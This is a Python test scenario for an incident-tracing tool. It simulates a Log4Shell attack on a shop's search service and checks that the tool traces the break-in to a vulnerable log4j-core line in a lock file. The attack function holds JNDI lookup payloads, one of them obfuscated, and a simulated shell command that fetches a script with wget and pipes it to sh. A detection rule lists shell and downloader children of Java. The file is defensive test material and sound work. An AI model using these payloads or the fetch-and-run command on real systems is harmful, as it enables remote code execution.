"""A vulnerable dependency: a lookup in a logged text loads code. Traced to the lock file's line, refused as a package.

The payload is in no command line. What leads to the package: the service connected to the address that a request named, a
stack trace passes through the package, and its vulnerability is known to be exploited.
"""

import json
from urllib.parse import quote

from everyday import history
from harness import AT, HOUR, LATER, MINUTE, SECOND, Change, Scenario, line
from rawlogs import Raw

from lemnis.app import feeds
from lemnis.contracts.provenance import Strength

IMAGE = "sha256:" + "c2" * 32
CONTAINER = "c0ffee02" * 8
ATTACKER, LOOKUPS = "198.51.100.9", "198.51.100.66"
DATABASE = "10.0.4.5"
JAVA = "/opt/java/openjdk/bin/java"
WORDS = ("running shoes", "blue coat", "kids' hat", "t-shirt (xl)", "scarf", "50% off")
OTHERS = ("size: 42", "black/white", "coat; red", "hats & scarves", "a|b", "running shoes")
SEARCH = """\
package com.shop;

import org.apache.logging.log4j.LogManager;
import org.apache.logging.log4j.Logger;
import org.springframework.web.bind.annotation.GetMapping;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.bind.annotation.RestController;

@RestController
public class SearchController {
  private static final Logger LOG = LogManager.getLogger(SearchController.class);

  @GetMapping("/search")
  public String search(@RequestParam String q) {
    LOG.info("searched for {}", q);
    return "[]";
  }
}
"""
LOCK = """\
# This is a Gradle generated file for dependency locking.
com.fasterxml.jackson.core:jackson-databind:2.17.2=runtimeClasspath
org.springframework:spring-web:6.1.14=runtimeClasspath
empty=
"""
VULNERABLE = LOCK.replace(
    "org.springframework:", "org.apache.logging.log4j:log4j-api:2.14.1=runtimeClasspath\n"
    "org.apache.logging.log4j:log4j-core:2.14.1=runtimeClasspath\norg.springframework:"
)  # fmt: skip
FIXED = VULNERABLE.replace("2.14.1", "2.24.1")
BEGIN = LOCK.replace("2.17.2", "2.17.1").replace(
    "com.fasterxml", "com.auth0:java-jwt:4.4.0=runtimeClasspath\ncom.fasterxml"
)
NEWER = VULNERABLE.replace("6.1.14", "6.1.15")
ADVISORIES = (
    {
        "schema_version": "1.7.0", "id": "GHSA-jfh8-c2jp-5v3q", "modified": "2025-11-01T00:00:00Z",
        "aliases": ["CVE-2021-44228"], "summary": "Lookups in a text that is logged load code from elsewhere",
        "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"}],
        "database_specific": {"cwe_ids": ["CWE-502", "CWE-917"]},
        "affected": [{
            "package": {"ecosystem": "Maven", "name": "org.apache.logging.log4j:log4j-core"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "2.0-beta9"}, {"fixed": "2.15.0"}]}],
        }],
    },
    {
        "schema_version": "1.7.0", "id": "EXAMPLE-2025-0001", "modified": "2025-11-01T00:00:00Z",
        "aliases": ["CVE-2025-99901"], "summary": "Deeply nested documents use up the stack",
        "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"}],
        "affected": [{
            "package": {"ecosystem": "Maven", "name": "com.fasterxml.jackson.core:jackson-databind"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.18.0"}]}],
        }],
    },
)  # fmt: skip
EXPLOITED = {
    "title": "CISA Catalog of Known Exploited Vulnerabilities", "catalogVersion": "2025.11.20",
    "dateReleased": "2025-11-20T12:00:00Z", "count": 1,
    "vulnerabilities": [{
        "cveID": "CVE-2021-44228", "vendorProject": "Apache", "product": "Log4j2", "vulnerabilityName": "Log4j2",
        "dateAdded": "2021-12-10", "shortDescription": "", "requiredAction": "Update", "dueDate": "2021-12-24",
        "knownRansomwareCampaignUse": "Known", "notes": "", "cwes": ["CWE-502"],
    }],
}  # fmt: skip
RULE = """\
title: Java service starts a shell or a downloader
id: 0b0f6c1e-3c55-4b1d-9a77-6a3f5c0d8e21
status: test
description: A Java service works by itself; what it starts was put into it.
author: The shop's security team
tags: [attack.execution, attack.t1059.004, attack.initial-access, attack.t1190]
logsource: {product: linux, category: process_creation}
detection:
  parent: {ParentImage|endswith: /java}
  child: {Image|endswith: [/sh, /bash, /dash, /curl, /wget]}
  condition: parent and child
level: high
"""
TRACE = """\
Error looking up JNDI resource [ldap://{address}:1389/a].
javax.naming.NamingException: problem generating object using object factory
\tat java.naming/com.sun.jndi.ldap.LdapCtx.c_lookup(LdapCtx.java:1114) ~[java.naming:?]
\tat org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:172) ~[log4j-core-2.14.1.jar!/:2.14.1]
\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56) ~[log4j-core-2.14.1.jar!/:2.14.1]
\tat org.apache.logging.log4j.core.lookup.Interpolator.lookup(Interpolator.java:221) ~[log4j-core-2.14.1.jar!/:2.14.1]
\tat org.apache.logging.log4j.spi.AbstractLogger.info(AbstractLogger.java:1373) ~[log4j-api-2.14.1.jar!/:2.14.1]
\tat com.shop.SearchController.search(SearchController.java:15) ~[classes!/:?]
"""


def prepare(world):
    """The image is attested, and advisories and what is exploited were pulled."""
    world.attest(IMAGE)
    folder = world.folder / "feeds"
    (folder / "osv").mkdir(parents=True)
    for number, one in enumerate(ADVISORIES):
        (folder / "osv" / f"{number}.json").write_text(json.dumps(one))
    (folder / "kev.json").write_text(json.dumps(EXPLOITED))
    root = feeds.folder(world.workspace)
    feeds.pull(root, "osv", [str(folder / "osv")], now=world.clock.now(), until=world.clock.now())
    feeds.pull(root, "kev", [str(folder / "kev.json")], now=world.clock.now())


def ordinary(folder, start=AT - HOUR, *, container=True, searched_for=WORDS):
    """Shoppers search; the service asks its database."""
    raw = Raw(folder, serial=start % 1_000_000)
    if container:
        raw.container(start - MINUTE, CONTAINER, 700, IMAGE, "shop/search")
        raw.starts(start - MINUTE + 100, 700, 699, JAVA, "java", "-jar", "/app/search.jar")
    for number in range(50):
        at, client = start + number * MINUTE, f"203.0.113.{number % 20 + 1}"
        raw.asks(at, client, "/search?q=" + quote(searched_for[number % len(searched_for)], safe=""))
        raw.connects(at + 20, 700, 699, JAVA, DATABASE, 5432)
        if number % 10 == 0:
            log(raw, at + 30, f"searched for {searched_for[number % len(searched_for)]}")
    return raw.logs


def attack(folder):
    """A lookup in the searched text: the service fetches a class, which starts a shell."""
    raw = Raw(folder, serial=AT % 1_000_000)
    searched(raw, AT - 2 * SECOND, ATTACKER, f"${{jndi:ldap://{LOOKUPS}:1389/a}}", (LOOKUPS, 1389))
    log(raw, AT - 1_700, TRACE.format(address=LOOKUPS))
    raw.starts(
        AT, 900, 700, "/usr/bin/dash", "/bin/sh", "-c", "id;uname -a;wget -qO- http://198.51.100.66/s|sh"
    )
    raw.starts(AT + 10, 901, 900, "/usr/bin/id", "id")
    raw.starts(AT + 20, 902, 900, "/usr/bin/uname", "uname", "-a")
    raw.starts(AT + 30, 903, 900, "/usr/bin/wget", "wget", "-qO-", "http://198.51.100.66/s")
    return raw.logs


def variant(folder):
    """Another attacker, with the lookup written otherwise, over another protocol, to a name."""
    raw = Raw(folder, serial=LATER % 1_000_000)
    text = "${${lower:j}ndi:${lower:r}mi://names.example:1099/x}"
    searched(raw, LATER, "192.0.2.88", text, ("192.0.2.200", 1099))
    raw.starts(LATER + 900, 950, 700, "/usr/bin/python3.11", "python3", "-c", "print(1)")
    return raw.logs


def benign_hour(folder):
    """The same hour a day later; others search for other things."""
    return ordinary(folder, LATER - HOUR, container=False, searched_for=OTHERS)


def more(story):
    """The line is as strong as a stack trace that tells the request's own text; each reason is told."""
    lines = [hop.edge for hop in story.trace.hops if hop.edge.method == "vulnerable_package"]
    assert [one.strength for one in lines] == [Strength.RECORDED]
    told = lines[0].evidence
    assert told["exploited"] is True
    assert told["package"] == "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1"
    assert told["stack_trace"]["frame"].endswith("JndiManager.lookup")
    assert [one["address"] for one in told["reached"]] == [LOOKUPS]
    assert {word for one in told["requests"] for word in one["words"]} >= {"jndi"}


def searched(raw, at, client, text, to):
    """Someone searches for a text that the service looks up."""
    raw.asks(at, client, "/search?q=" + quote(text, safe=""))
    raw.connects(at + 150, 700, 699, JAVA, *to)


def log(raw, at, text):
    """The service logs something."""
    about = {"service.name": "search", "container.id": CONTAINER, "telemetry.sdk.language": "java"}
    attributes = [{"key": name, "value": {"stringValue": value}} for name, value in about.items()]
    told = {"timeUnixNano": str(at * 1_000_000), "severityNumber": 9, "severityText": "INFO"}
    raw.add(
        "otlp_logs",
        {
            "resource": {"attributes": attributes},
            "logRecord": {**told, "body": {"stringValue": text}, "attributes": []},
        },
    )


PLACE = "src/main/java/com/shop/SearchController.java"
SCENARIO = Scenario(
    repository="search",
    changes=history(
        Change("Begin", {PLACE: SEARCH, "gradle.lockfile": BEGIN, "CODEOWNERS": "* @shop/search\n/gradle.lockfile @shop/platform\n"}),
        Change("Log with Log4j", {"gradle.lockfile": VULNERABLE}, author="Robin New", name="culprit"),
        near=(
            Change("Newer Jackson, without tokens", {"gradle.lockfile": LOCK}),
            Change("Newer Spring", {"gradle.lockfile": NEWER}),
            Change("Say hello", {"src/main/java/com/shop/Hello.java": "package com.shop;\n\npublic class Hello {}\n"}),
        ),
        fix=Change("Mended Log4j", {"gradle.lockfile": FIXED.replace("6.1.14", "6.1.15")}, name="fix"),
    ),
    cause=f"gradle.lockfile:{line(VULNERABLE, 'log4j-core')}",
    owner="@shop/platform",
    kind="vulnerable package",
    ordinary=ordinary,
    attack=attack,
    variant=variant,
    benign_hour=benign_hour,
    prepare=prepare,
    more=more,
    content={"detections/java_starts_shell/rule.yml": RULE},
    warns=("new_findings_below_medium", "no_exploited_vulnerabilities"),
)  # fmt: skip
